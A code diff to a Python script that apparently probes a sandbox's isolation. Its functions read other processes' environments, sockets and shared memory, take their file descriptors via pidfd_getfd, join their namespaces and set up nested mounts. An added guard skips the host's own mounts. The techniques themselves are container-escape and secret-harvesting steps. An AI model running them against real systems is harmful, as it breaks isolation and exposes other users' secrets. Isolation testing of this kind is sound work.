@@ -13,13 +13,16 @@ import socket
 CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
 MS_BIND, MS_REC = 4096, 16384
 SYS_OPEN_TREE, SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 428, 434, 438
+HIGHEST_PID = 400  # in a sandbox
 libc = ctypes.CDLL(None, use_errno=True)
 libc.shmat.restype = ctypes.c_void_p
 libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
 
 
 def processes():
-    return ["self", "1", *(name for name in os.listdir("/proc") if name.isdigit())]
+    yield from ("self", "1", str(os.getppid()))
+    with contextlib.suppress(OSError):
+        yield from filter(str.isdigit, os.listdir("/proc"))
 
 
 def from_path(routes):
@@ -77,7 +80,7 @@ def read_shared_memory(routes):
 
 
 def steal_descriptors(routes):
-    for pid in processes()[1:]:
+    for pid in filter(str.isdigit, processes()):
         handle = libc.syscall(SYS_PIDFD_OPEN, int(pid), 0)
         for number in range(64):
             with contextlib.suppress(OSError):
@@ -86,7 +89,7 @@ def steal_descriptors(routes):
 
 
 def join_namespaces(routes):
-    for pid in processes()[1:]:
+    for pid in filter(str.isdigit, processes()):
         for name in ("user", "mnt", "net", "ipc", "pid"):
             with contextlib.suppress(OSError):
                 libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0)
@@ -95,8 +98,12 @@ def join_namespaces(routes):
 
 def nested_namespaces(routes):
     uid = os.getuid()
-    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID):
-        libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
+    apart = [
+        libc.unshare(flags) == 0
+        for flags in (CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID)
+    ]
+    if not all(apart[:2]) and os.getpid() > HIGHEST_PID:  # these would be the host's own mounts
+        return
     with contextlib.suppress(OSError), open("/proc/self/uid_map", "w") as file:
         file.write(f"0 {uid} 1")
     for kind in (b"proc", b"sysfs", b"tmpfs", b"devpts", b"cgroup2", b"overlay"):
@@ -116,7 +123,13 @@ def nested_namespaces(routes):
 
 
 def direct(routes):
-    for source in (read_files, read_environments, read_sockets, read_shared_memory, steal_descriptors):
+    for source in (
+        read_files,
+        read_environments,
+        read_sockets,
+        read_shared_memory,
+        steal_descriptors,
+    ):
         with contextlib.suppress(OSError, AttributeError):
             yield from source(routes)
 
